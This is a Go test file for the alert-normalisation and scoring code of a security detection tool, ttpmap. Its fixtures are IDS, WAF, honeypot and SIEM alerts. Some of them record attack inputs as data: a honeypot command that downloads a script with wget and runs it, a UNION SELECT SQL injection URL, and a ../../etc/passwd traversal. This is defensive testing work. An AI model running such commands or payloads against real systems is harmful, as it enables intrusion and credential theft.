package alert

import (
	"context"
	"encoding/json"
	"errors"
	"math"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/ttpmap/ttpmap/detect"
	"github.com/ttpmap/ttpmap/finding"
	"github.com/ttpmap/ttpmap/sigma"
)

func decode(t testing.TB, body string) map[string]any {
	t.Helper()
	var raw map[string]any
	if err := json.Unmarshal([]byte(body), &raw); err != nil {
		t.Fatalf("bad test body %s: %v", body, err)
	}
	return raw
}

func TestToEventNormalises(t *testing.T) {
	t.Parallel()
	cases := []struct {
		name string
		body string
		want map[string]string // field → value; "" = must be absent
		time string            // RFC 3339, "" = zero
		host string
		user string
	}{
		{"brief", readTestdata(t, "brief_sqli.json"), map[string]string{
			FieldText: "SQL Injection attempt detected", FieldMessage: "SQL Injection attempt detected",
			FieldSourceIP: "192.168.1.100", FieldDestIP: "10.0.0.50", FieldType: "threat", FieldSeverity: "high",
			FieldService: "svc", "description": "SQL Injection attempt detected", "source": "192.168.1.100",
		}, "2024-01-15T10:30:00Z", "", ""},
		{"suricata", readTestdata(t, "suricata_sqli.json"), map[string]string{
			FieldSignature: "ET WEB_SERVER Possible SQL Injection Attempt UNION SELECT",
			FieldCategory:  "Web Application Attack", FieldSourceIP: "203.0.113.7", FieldSourcePort: "51234",
			FieldDestIP: "10.0.0.50", FieldDestPort: "80", FieldProtocol: "TCP", FieldAction: "allowed",
			FieldURL: "/item.php?id=1 UNION SELECT username,password FROM users", FieldUserAgent: "Mozilla/5.0",
			FieldType: "alert", "alert.signature_id": "2006446", "alert.metadata.signature_severity": "Major",
			"flow_id": "1234567890123456", FieldText: "", "Computer": "",
		}, "2024-01-15T10:30:00.123456Z", "", ""},
		{"modsecurity", readTestdata(t, "modsecurity_lfi.json"), map[string]string{
			FieldSourceIP: "203.0.113.50", FieldDestIP: "10.0.0.80", FieldDestPort: "443", FieldSourcePort: "40000",
			FieldURL: "/index.php?page=../../../../etc/passwd", FieldUserAgent: "curl/8.4.0",
			"transaction.messages.details.ruleId": "930110\n949110",
			FieldText:                             "Path Traversal Attack (/../) or (/.../)\nInbound Anomaly Score Exceeded (Total Score: 10)",
			FieldFile:                             "",
		}, "2024-01-15T10:30:00Z", "", ""},
		{"cowrie", readTestdata(t, "cowrie_command.json"), map[string]string{
			FieldType: "cowrie.command.input", FieldSourceIP: "185.220.101.4",
			FieldCommandLine: "cd /tmp; wget http://203.0.113.5/bins.sh; chmod +x bins.sh; ./bins.sh",
		}, "2024-01-15T10:31:02.554012Z", "hp-ssh-01", ""},
		{"wazuh", readTestdata(t, "wazuh_bruteforce.json"), map[string]string{
			FieldSignature: "sshd: brute force trying to get access to the system. Non existent user.",
			FieldText:      "Jan 15 10:30:00 web01 sshd[1234]: Invalid user admin from 198.51.100.20 port 50000",
			FieldTags:      "syslog\nsshd\nauthentication_failures", FieldSourceIP: "198.51.100.20", FieldSourcePort: "50000",
		}, "2024-01-15T10:30:00Z", "web01", "admin"},
		{"decoy epoch and indicators", readTestdata(t, "decoy_credential.json"), map[string]string{
			FieldIndicators: "decoy\nuser-account\nsvc_backup_decoy\nip\n10.0.3.14", FieldType: "decoy_triggered",
			"indicators.value": "svc_backup_decoy\n10.0.3.14",
		}, "2024-01-15T10:30:00Z", "DC01", "svc_backup_decoy"},
		{"ecs", `{"@timestamp":"2024-01-15T10:30:00.5Z","event":{"kind":"alert","category":["intrusion_detection"],"action":"blocked"},"source":{"ip":"::ffff:203.0.113.9","port":4444},"destination":{"ip":"2001:db8::1","port":22},"rule":{"name":"SSH brute force"},"host":{"name":"ids01"},"user":{"name":"root"},"message":"blocked"}`, map[string]string{
			FieldSourceIP: "203.0.113.9", FieldSourcePort: "4444", FieldDestIP: "2001:db8::1", FieldDestPort: "22",
			FieldSignature: "SSH brute force", FieldCategory: "intrusion_detection", FieldType: "blocked\nalert",
			"source.ip": "::ffff:203.0.113.9",
		}, "2024-01-15T10:30:00.5Z", "ids01", "root"},
		{"ip:port and hostnames", `{"src":"198.51.100.1:5555","destination":"db01.corp.example","time":"1705314600123","msg":"x"}`, map[string]string{
			FieldSourceIP: "198.51.100.1", FieldSourcePort: "5555", FieldDestHost: "db01.corp.example", FieldDestIP: "",
		}, "2024-01-15T10:30:00.123Z", "", ""},
		{"fail2ban comma time", `{"time":"2024-01-15 10:30:00,250","message":"[sshd] Ban 192.168.1.100","port":"99999"}`, map[string]string{
			FieldDestPort: "",
		}, "2024-01-15T10:30:00.25Z", "", ""},
		{"negated text", `{"description":"Brute force attack not blocked, no account locked"}`, map[string]string{
			FieldText: "Brute force attack  ,", FieldMessage: "Brute force attack not blocked, no account locked",
		}, "", "", ""},
		{"spaces in keys", `{"Threat Name":"Trojan:Win32/X","bad time":"yesterday","timestamp":"yesterday"}`, map[string]string{
			"ThreatName": "Trojan:Win32/X",
		}, "", "", ""},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			ev, err := ToEvent(decode(t, c.body), "svc")
			if err != nil {
				t.Fatalf("ToEvent: %v", err)
			}
			if ev.Product != Product || ev.Kind != Kind || ev.Channel != "" || ev.EventID != 0 {
				t.Errorf("product %q kind %q channel %q id %d", ev.Product, ev.Kind, ev.Channel, ev.EventID)
			}
			for k, want := range c.want {
				got, ok := ev.Fields[k]
				if want == "" {
					if ok {
						t.Errorf("%s = %q, want absent", k, got)
					}
					continue
				}
				if got != want {
					t.Errorf("%s = %q, want %q", k, got, want)
				}
			}
			var wantTime time.Time
			if c.time != "" {
				wantTime, _ = time.Parse(time.RFC3339Nano, c.time)
			}
			if !ev.Time.Equal(wantTime) {
				t.Errorf("time = %v, want %v", ev.Time, wantTime)
			}
			if ev.Host != c.host || ev.User != c.user {
				t.Errorf("host %q user %q, want %q %q", ev.Host, ev.User, c.host, c.user)
			}
			if ev.Message != ev.Fields[FieldMessage] {
				t.Errorf("Message %q != AlertMessage %q", ev.Message, ev.Fields[FieldMessage])
			}
		})
	}
}

func TestToEventEmpty(t *testing.T) {
	t.Parallel()
	for _, raw := range []map[string]any{nil, {}} {
		if _, err := ToEvent(raw, "x"); !errors.Is(err, ErrEmpty) {
			t.Errorf("ToEvent(%v) error = %v, want ErrEmpty", raw, err)
		}
	}
}

func TestToEventLimits(t *testing.T) {
	t.Parallel()
	deep := map[string]any{"description": "deep"}
	cur := deep
	for range 100 {
		next := map[string]any{}
		cur["n"] = next
		cur = next
	}
	cur["leaf"] = "x"
	wide := map[string]any{}
	for i := range 5000 {
		wide[strings.Repeat("k", 1+i%40)+string(rune('a'+i%26))+string(rune('a'+i/26%26))+string(rune('a'+i/676))] = i
	}
	long := map[string]any{"description": strings.Repeat("é", maxValue)}
	for name, raw := range map[string]map[string]any{"deep": deep, "wide": wide, "long": long} {
		ev, err := ToEvent(raw, "x")
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		if len(ev.Fields) > maxFields+40 {
			t.Errorf("%s: %d fields", name, len(ev.Fields))
		}
		for k, v := range ev.Fields {
			if len(v) > maxValue || strings.Count(k, ".") > maxDepth {
				t.Errorf("%s: field %q: %d bytes", name, k[:min(len(k), 40)], len(v))
			}
		}
	}
}

func TestIsGeneric(t *testing.T) {
	t.Parallel()
	cases := []struct {
		name string
		body string
		want bool
	}{
		{"brief", `{"timestamp":"2024-01-15T10:30:00Z","source":"192.168.1.100","description":"SQL Injection attempt"}`, true},
		{"suricata eve", `{"event_type":"alert","src_ip":"1.2.3.4","alert":{"signature":"x"}}`, true},
		{"cowrie string eventid", `{"eventid":"cowrie.login.failed","username":"root"}`, true},
		{"ecs alert", `{"@timestamp":"2024-01-15T10:30:00Z","event":{"kind":"alert"},"rule":{"name":"x"}}`, true},
		{"string event_id", `{"event_id":"evt-123","description":"x"}`, true},
		{"non-numeric EventID", `{"EventID":"abc","description":"x"}`, true},
		{"Event string", `{"Event":"something happened"}`, true},
		{"threat object", `{"name":"x","threat":{"technique":"T1110"}}`, true},
		{"nxlog", `{"EventID":4625,"SourceName":"Microsoft-Windows-Security-Auditing","Hostname":"dc01"}`, false},
		{"nxlog string id", `{"EventID":"4625","Hostname":"dc01"}`, false},
		{"evtx_dump", `{"Event":{"System":{"EventID":4624,"Channel":"Security"},"EventData":{}}}`, false},
		{"evtx_dump #text id", `{"EventID":{"#text":4624},"Computer":"x"}`, false},
		{"winlogbeat", `{"@timestamp":"2024-01-15T10:30:00Z","winlog":{"event_id":4625,"channel":"Security"}}`, false},
		{"winlogbeat 6", `{"event_id":4625,"log_name":"Security","event_data":{}}`, false},
		{"powershell export", `{"Id":4104,"ProviderName":"Microsoft-Windows-PowerShell","Message":"x"}`, false},
		{"channel only", `{"Channel":"Security","Message":"x"}`, false},
		{"tracee", `{"timestamp":1,"processId":2,"eventName":"openat","args":[]}`, false},
		{"tracee v1beta1", `{"timestamp":{"seconds":"1"},"name":"openat","workload":{}}`, false},
		{"cape", `{"syscalls":[]}`, false},
		{"empty", `{}`, false},
	}
	for _, c := range cases {
		if got := IsGeneric(decode(t, c.body)); got != c.want {
			t.Errorf("%s: IsGeneric = %v, want %v", c.name, got, c.want)
		}
		// Servers may decode with UseNumber.
		dec := json.NewDecoder(strings.NewReader(c.body))
		dec.UseNumber()
		var raw map[string]any
		if err := dec.Decode(&raw); err != nil {
			t.Fatal(err)
		}
		if got := IsGeneric(raw); got != c.want {
			t.Errorf("%s (UseNumber): IsGeneric = %v, want %v", c.name, got, c.want)
		}
		if ev, err := ToEvent(raw, "x"); err == nil && c.name == "brief" && !ev.Time.Equal(time.Date(2024, 1, 15, 10, 30, 0, 0, time.UTC)) {
			t.Errorf("UseNumber brief: time %v", ev.Time)
		}
	}
	dec := json.NewDecoder(strings.NewReader(`{"timestamp":1705314600,"dest_port":443,"description":"x"}`))
	dec.UseNumber()
	var raw map[string]any
	if err := dec.Decode(&raw); err != nil {
		t.Fatal(err)
	}
	ev, err := ToEvent(raw, "x")
	if err != nil || !ev.Time.Equal(time.Unix(1705314600, 0)) || ev.Fields[FieldDestPort] != "443" {
		t.Errorf("UseNumber: %v time %v port %q", err, ev.Time, ev.Fields[FieldDestPort])
	}
}

func TestParseTime(t *testing.T) {
	t.Parallel()
	cases := []struct{ in, want string }{
		{"2024-01-15T10:30:00Z", "2024-01-15T10:30:00Z"},
		{"2024-01-15T10:30:00.123456+0000", "2024-01-15T10:30:00.123456Z"},
		{"2024-01-15T12:30:00+02:00", "2024-01-15T10:30:00Z"},
		{"2024-01-15T10:30:00", "2024-01-15T10:30:00Z"},
		{"2024-01-15 10:30:00", "2024-01-15T10:30:00Z"},
		{"2024-01-15 10:30:00,123", "2024-01-15T10:30:00.123Z"},
		{"2024-01-15 10:30:00.5 +0100", "2024-01-15T09:30:00.5Z"},
		{"Mon, 15 Jan 2024 10:30:00 GMT", "2024-01-15T10:30:00Z"},
		{"15/Jan/2024:10:30:00 +0000", "2024-01-15T10:30:00Z"},
		{"1705314600", "2024-01-15T10:30:00Z"},
		{"1705314600.5", "2024-01-15T10:30:00.5Z"},
		{"1705314600123", "2024-01-15T10:30:00.123Z"},
		{"1705314600123456", "2024-01-15T10:30:00.123456Z"},
		{"1705314600123456789", "2024-01-15T10:30:00.123456789Z"},
		{"yesterday", ""},
		{"-5", ""},
		{"0", ""},
		{"", ""},
	}
	for _, c := range cases {
		got, ok := ParseTime(c.in)
		if c.want == "" {
			if ok {
				t.Errorf("ParseTime(%q) = %v, want failure", c.in, got)
			}
			continue
		}
		want, _ := time.Parse(time.RFC3339Nano, c.want)
		if !ok || !got.Equal(want) || got.Location() != time.UTC {
			t.Errorf("ParseTime(%q) = %v, %v; want %v", c.in, got, ok, want)
		}
	}
}

func TestStripNegated(t *testing.T) {
	t.Parallel()
	cases := []struct{ in, want string }{
		{"SQL Injection attempt detected", "SQL Injection attempt detected"},
		{"No SQL injection found", ""},
		{"SQL injection not detected after rescan", ""},
		{"Brute force attack not blocked", "Brute force attack"},
		{"SQL injection attempt blocked, no data leaked", "SQL injection attempt blocked,"},
		{"Port scan detected. Not a false alarm", "Port scan detected."},
		{"Scan finished but nothing suspicious", "Scan finished but"},
		{"Login failed: user does not exist", "Login failed: user does"},
		{"Scanner didn't find XSS", "Scanner"},
		{"False positive: SQL injection rule on /health", ""},
		{"Unknown host; notice only", "Unknown host; notice only"},
		{"Rule no. 942100 matched SQL injection", "Rule no. 942100 matched SQL injection"},
		{"zero-day exploit attempt", "zero-day exploit attempt"},
		{"Port scan\nno lateral movement", "Port scan"},
		{"", ""},
	}
	for _, c := range cases {
		if got := StripNegated(c.in); got != c.want {
			t.Errorf("StripNegated(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

func TestConfidence(t *testing.T) {
	t.Parallel()
	cases := []struct {
		base float64
		e    Evidence
		want float64
	}{
		{0.75, Evidence{Strength: StrengthStructured}, 0.75},
		{0.75, Evidence{Strength: StrengthCorroborated}, 0.80},
		{0.75, Evidence{Strength: StrengthText}, 0.60},
		{0.75, Evidence{Strength: StrengthText, Hedged: true}, 0.55},
		{0.75, Evidence{Strength: StrengthStructured, Hedged: true}, 0.70},
		{0.99, Evidence{Strength: StrengthText}, 0.84},
		{1.5, Evidence{Strength: StrengthText}, 0.90},
		{0.99, Evidence{Strength: StrengthCorroborated}, 0.95},
		{0.10, Evidence{Strength: StrengthText, Hedged: true}, 0.05},
		{0.42, Evidence{}, 0.42},
	}
	for _, c := range cases {
		if got := Confidence(c.base, c.e); math.Abs(got-c.want) > 1e-9 {
			t.Errorf("Confidence(%v, %+v) = %v, want %v", c.base, c.e, got, c.want)
		}
	}
}

// TestScorer checks the evidence and final confidence of real alerts, with
// the base from finding.Confidence as the server computes it.
func TestScorer(t *testing.T) {
	t.Parallel()
	cases := []struct {
		name     string
		body     string
		rule     string
		strength Strength
		hedged   bool
		want     float64
	}{
		{"brief description only", readTestdata(t, "brief_sqli.json"), "SQL Injection Attempt", StrengthText, false, 0.60},
		{"suricata signature", readTestdata(t, "suricata_sqli.json"), "SQL Injection Attempt", StrengthStructured, true, 0.70},
		{"suricata category", readTestdata(t, "suricata_sqli.json"), "Web Application Attack Category", StrengthStructured, true, 0.55},
		{"modsecurity tags and text", readTestdata(t, "modsecurity_lfi.json"), "Path Traversal or File Inclusion Attempt", StrengthCorroborated, false, 0.65},
		{"cowrie type", readTestdata(t, "cowrie_login_failed.json"), "Login Attempt on a Honeypot", StrengthStructured, false, 0.60},
		{"wazuh signature and tags", readTestdata(t, "wazuh_bruteforce.json"), "Brute Force Authentication Attempts", StrengthStructured, false, 0.60},
		{"decoy words decide", readTestdata(t, "decoy_credential.json"), "Decoy Credential Used", StrengthText, false, 0.60},
		{"fail2ban text", readTestdata(t, "fail2ban.json"), "Brute Force Authentication Attempts", StrengthText, false, 0.45},
		{"hedged text", `{"description":"Possible data exfiltration: 2.3 GB uploaded"}`, "Data Exfiltration", StrengthText, true, 0.40},
		{"text and url agree", `{"description":"SQL injection","url":"/a?id=1 union select 1"}`, "SQL Injection Attempt", StrengthCorroborated, false, 0.80},
	}
	fx := newFixture(t)
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			ev, ms := match(t, c.body)
			var r *sigma.Rule
			for _, m := range ms {
				if m.Rule.Title == c.rule {
					r = m.Rule
				}
			}
			if r == nil {
				t.Fatalf("%q did not match; got %q", c.rule, titles(ms))
			}
			e := fx.scorer.Evidence(r, ev)
			if e.Strength != c.strength || e.Hedged != c.hedged {
				t.Errorf("evidence = %v hedged %v, want %v hedged %v", e.Strength, e.Hedged, c.strength, c.hedged)
			}
			got := fx.scorer.Score(r, ev, finding.Confidence(r, false))
			if math.Abs(got-c.want) > 1e-9 {
				t.Errorf("score = %v, want %v", got, c.want)
			}
			if e.Strength == StrengthText && got > MaxText {
				t.Errorf("text-only score %v above %v", got, MaxText)
			}
			// A rule the scorer was not built with is compiled on demand.
			clone := *r
			if e2 := fx.scorer.Evidence(&clone, ev); e2 != e {
				t.Errorf("on-demand evidence = %+v, want %+v", e2, e)
			}
		})
	}
}

func TestScorerIgnoresOtherRules(t *testing.T) {
	t.Parallel()
	fx := newFixture(t)
	ev, _ := match(t, readTestdata(t, "brief_sqli.json"))
	win := &sigma.Rule{Title: "w", Logsource: sigma.Logsource{Product: "windows"}}
	if e := fx.scorer.Evidence(win, ev); e.Strength != StrengthNone {
		t.Errorf("windows rule: %+v", e)
	}
	if got := fx.scorer.Score(win, ev, 0.55); got != 0.55 {
		t.Errorf("windows rule score %v, want base", got)
	}
	var nilScorer *Scorer
	if e := nilScorer.Evidence(fx.rules[0], ev); e.Strength != StrengthNone {
		t.Errorf("nil scorer: %+v", e)
	}
	// A rule that does not match the event has no evidence.
	for _, r := range fx.rules {
		if r.Title == "ARP Spoofing" {
			if e := fx.scorer.Evidence(r, ev); e.Strength != StrengthNone {
				t.Errorf("non-matching rule: %+v", e)
			}
		}
	}
}

// FuzzToEvent: any JSON object must convert without panicking, and the
// result must be an alert event whose normalised fields hold valid values.
func FuzzToEvent(f *testing.F) {
	files, _ := filepath.Glob(filepath.Join("testdata", "*.json"))
	for _, p := range files {
		f.Add(readTestdata(f, filepath.Base(p)))
	}
	for _, c := range mappingCases(f) {
		f.Add(c.body)
	}
	f.Add(`{"a":[[[[{"b":[1,2,{"c":null}]}]]]],"timestamp":1e300,"src_ip":"[::1]:99999"}`)
	f.Fuzz(func(t *testing.T, body string) {
		if len(body) > 1<<16 {
			return
		}
		var raw map[string]any
		if json.Unmarshal([]byte(body), &raw) != nil {
			return
		}
		_ = IsGeneric(raw)
		ev, err := ToEvent(raw, "fuzz")
		if err != nil {
			if len(raw) != 0 {
				t.Fatalf("ToEvent error on non-empty object: %v", err)
			}
			return
		}
		if ev.Product != Product || ev.Fields == nil {
			t.Fatalf("product %q", ev.Product)
		}
		if p, ok := ev.Fields[FieldSourcePort]; ok && portOf(p) != p {
			t.Fatalf("bad port %q", p)
		}
		if !ev.Time.IsZero() && ev.Time.Location() != time.UTC {
			t.Fatalf("time not UTC: %v", ev.Time)
		}
		_ = StripNegated(ev.Fields[FieldMessage])
	})
}

// BenchmarkEnrich measures one alert through ToEvent, the engine over the
// alert rules and the scorer, as the server runs it:
//
//	go test -run=^$ -bench=Enrich ./alert
func BenchmarkEnrich(b *testing.B) {
	fx := newFixture(b)
	for _, name := range []string{"brief_sqli.json", "suricata_sqli.json", "modsecurity_lfi.json"} {
		body := []byte(readTestdata(b, name))
		b.Run(strings.TrimSuffix(name, ".json"), func(b *testing.B) {
			b.ReportAllocs()
			b.SetBytes(int64(len(body)))
			for b.Loop() {
				var raw map[string]any
				if err := json.Unmarshal(body, &raw); err != nil {
					b.Fatal(err)
				}
				ev, err := ToEvent(raw, "bench")
				if err != nil {
					b.Fatal(err)
				}
				err = fx.engine.Process(context.Background(), ev, func(_ context.Context, m detect.Match) error {
					_ = fx.scorer.Score(m.Rule, m.Event, 0.75)
					return nil
				})
				if err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}
